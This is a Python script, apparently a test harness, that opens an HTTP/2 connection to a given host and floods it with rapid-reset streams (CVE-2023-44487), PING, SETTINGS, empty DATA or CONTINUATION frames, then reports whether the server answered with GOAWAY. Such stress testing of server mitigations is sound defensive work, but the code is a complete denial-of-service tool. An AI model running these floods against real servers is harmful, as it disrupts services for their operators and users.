#!/usr/bin/env python3
"""A misbehaving HTTP/2 client for the flood scenario (Python h2 for HPACK, raw frames
otherwise). Floods one connection, then reads until the server closes it and prints what the
server did: "goaway <error code> closed" (or "no-goaway ..."), and the streams answered.

Usage: h2_flood.py HOST PORT MODE [COUNT]
  rapid-reset  COUNT x (HEADERS GET /allowed/flood, RST_STREAM CANCEL)   (CVE-2023-44487)
  ping         COUNT PING frames
  settings     COUNT empty SETTINGS frames
  empty-data   one POST stream, then COUNT empty DATA frames without END_STREAM
  continuation one HEADERS without END_HEADERS, then COUNT CONTINUATION frames
"""
import socket
import struct
import sys
import time

import h2.config
import h2.connection
import h2.events


def frame(ftype, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack(">I", stream) + payload


def main():
    host, port, mode = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    count = int(sys.argv[4]) if len(sys.argv) > 4 else 2000
    sock = socket.create_connection((host, port), timeout=10)
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    headers = [(":method", "GET"), (":scheme", "http"), (":authority", host), (":path", "/allowed/flood")]
    sent = 0
    try:
        if mode == "rapid-reset":
            for i in range(count):
                sid = conn.get_next_available_stream_id()
                conn.send_headers(sid, headers, end_stream=True)
                conn.reset_stream(sid, error_code=8)
                if i % 50 == 49:
                    sock.sendall(conn.data_to_send())
                sent += 1
            sock.sendall(conn.data_to_send())
        elif mode == "ping":
            sock.sendall(b"".join(frame(6, 0, 0, struct.pack(">Q", i)) for i in range(count)))
            sent = count
        elif mode == "settings":
            sock.sendall(b"".join(frame(4, 0, 0) for _ in range(count)))
            sent = count
        elif mode == "empty-data":
            conn.send_headers(1, [(":method", "POST")] + headers[1:], end_stream=False)
            sock.sendall(conn.data_to_send() + b"".join(frame(0, 0, 1) for _ in range(count)))
            sent = count
        elif mode == "continuation":
            block = conn.encoder.encode(headers)
            sock.sendall(frame(1, 0, 1, block) + b"".join(frame(9, 0, 1, b"") for _ in range(count)))
            sent = count
        else:
            print("unknown mode", mode)
            return 1
    except (BrokenPipeError, ConnectionResetError):
        pass
    goaway, closed, answered = None, False, 0
    deadline = time.time() + 10
    while time.time() < deadline:
        try:
            data = sock.recv(65536)
        except (ConnectionResetError, socket.timeout):
            closed = True
            break
        if not data:
            closed = True
            break
        try:
            events = conn.receive_data(data)
        except Exception:
            events = []
            # Raw scan for GOAWAY when h2 refuses the stream (e.g. after our own raw frames).
            i = 0
            while i + 9 <= len(data):
                n = int.from_bytes(data[i:i + 3], "big")
                if data[i + 3] == 7 and goaway is None and i + 17 <= len(data):
                    goaway = int.from_bytes(data[i + 13:i + 17], "big")
                i += 9 + n
        for e in events:
            if isinstance(e, h2.events.ConnectionTerminated) and goaway is None:
                goaway = e.error_code
            if isinstance(e, h2.events.ResponseReceived):
                answered += 1
        try:
            sock.sendall(conn.data_to_send())
        except OSError:
            pass
    print("%s %s %s sent=%d answered=%d" % ("goaway" if goaway is not None else "no-goaway",
                                            int(goaway) if goaway is not None else -1,
                                            "closed" if closed else "open", sent, answered))
    return 0


if __name__ == "__main__":
    sys.exit(main())
